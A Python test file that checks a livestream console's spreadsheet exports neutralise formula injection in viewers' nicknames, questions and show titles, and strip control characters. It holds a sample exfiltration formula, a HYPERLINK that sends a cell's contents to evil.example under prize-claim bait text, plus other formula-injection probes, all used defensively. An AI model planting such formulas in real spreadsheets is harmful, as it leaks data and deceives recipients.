"""Exports that carry outside text (viewers' nicknames and questions, a show's title) write it as
text: never a formula a spreadsheet would run, and a control character in it is left out instead
of failing the export."""

from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from anchor_console.domain.giveaways import Entrant, LuckyBagSetup
from anchor_console.session.giveaway_export import write_winners
from anchor_console.session.giveaway_store import KeptBag
from anchor_console.session.review import compute_review
from anchor_console.session.review_export import export_xlsx
from anchor_console.session.show_record_file import ShowRecordFile

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"领奖点这里")'
CONTROLS = "小\x1b[31m明" + "".join(chr(c) for c in range(0, 9))


def drawn_bag(*nicknames: str) -> KeptBag:
    return KeptBag("l1", "k", "room", "c", LuckyBagSetup(prize="保温杯", winners=len(nicknames)), "seed", "commit",
                   state="drawn", drawn_at=1.7e9,
                   winners=tuple(Entrant(f"u{i}", n) for i, n in enumerate(nicknames, 1)))


def formula_cells(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and "<f>" in z.read(n).decode()]


def test_winner_nicknames_are_written_as_text_in_a_workbook(tmp_path):
    path = write_winners(drawn_bag(FORMULA, CONTROLS, "#N/A"), tmp_path / "w.xlsx")
    assert formula_cells(path) == []
    nicknames = [row[2] for row in load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert nicknames == [FORMULA, "小[31m明", "#N/A"]


@pytest.mark.parametrize("nickname", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1"])
def test_winner_nicknames_cannot_start_a_formula_in_a_csv(tmp_path, nickname):
    path = write_winners(drawn_bag(nickname, CONTROLS), tmp_path / "w.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][2] == "'" + nickname and rows[2][2] == "小[31m明"
    assert rows[1][3] == "保温杯"


def record(tmp_path, title: str, question: str):
    path = tmp_path / "show.sqlite"
    r = ShowRecordFile(path)
    r.set_meta(title=title, started_at=0.0, wall_started_at=1.7e9, ended_at=60.0,
               questions=[{"text": question, "count": 3, "answered": False, "product_id": ""}])
    r.write_second(0, tuple([1] * 11))
    r.close()
    return path


def test_the_review_workbook_writes_questions_and_the_title_as_text(tmp_path):
    path = export_xlsx(compute_review(record(tmp_path, "=1+1", FORMULA)), tmp_path / "a.xlsx")
    assert formula_cells(path) == []
    wb = load_workbook(path)
    assert wb["Overview"]["B1"].value == "=1+1" and wb["Questions"]["A3"].value == FORMULA


def test_a_control_character_in_a_question_does_not_fail_the_review_export(tmp_path):
    path = export_xlsx(compute_review(record(tmp_path, "Friday\x00", "XL有吗\x1b[31m")), tmp_path / "b.xlsx")
    wb = load_workbook(path)
    assert wb["Questions"]["A3"].value == "XL有吗[31m" and wb["Overview"]["B1"].value == "Friday"
